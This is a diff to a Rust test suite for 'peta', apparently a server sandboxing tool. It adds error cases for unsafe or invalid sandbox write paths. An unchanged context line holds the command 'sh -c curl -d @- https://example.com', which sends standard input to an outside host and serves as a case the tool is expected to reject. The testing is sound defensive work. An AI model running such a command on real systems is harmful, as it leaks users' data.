@@ -124,6 +124,16 @@ fn user_facing_errors() {
     .expect("write");
     let empty_db = dir.path().join("empty.db");
     std::fs::write(&empty_db, "").expect("write");
+    // A box that would let the server write the directory holding peta's own config.
+    let own_write = dir.path().join("own-write.toml");
+    std::fs::write(
+        &own_write,
+        format!(
+            "[servers.fs]\ncommand = [\"true\"]\n[servers.fs.sandbox]\nwrite = [\"{}\"]\n",
+            dir.path().display()
+        ),
+    )
+    .expect("write");
     let cases: Vec<(&str, Vec<String>, i32)> = vec![
         (
             "error-tools-no-db.txt",
@@ -244,6 +254,28 @@ fn user_facing_errors() {
                 "sh".into(),
                 "-c".into(),
                 "curl -d @- https://example.com".into(),
+            ],
+            78,
+        ),
+        (
+            "error-sandbox-missing-write.txt",
+            vec![
+                "run".into(),
+                "--sandbox-write".into(),
+                dir.path().join("missing").display().to_string(),
+                "--".into(),
+                "true".into(),
+            ],
+            78,
+        ),
+        (
+            "error-sandbox-own-write.txt",
+            vec![
+                "run".into(),
+                "--config".into(),
+                own_write.display().to_string(),
+                "--server".into(),
+                "fs".into(),
             ],
             78,
         ),
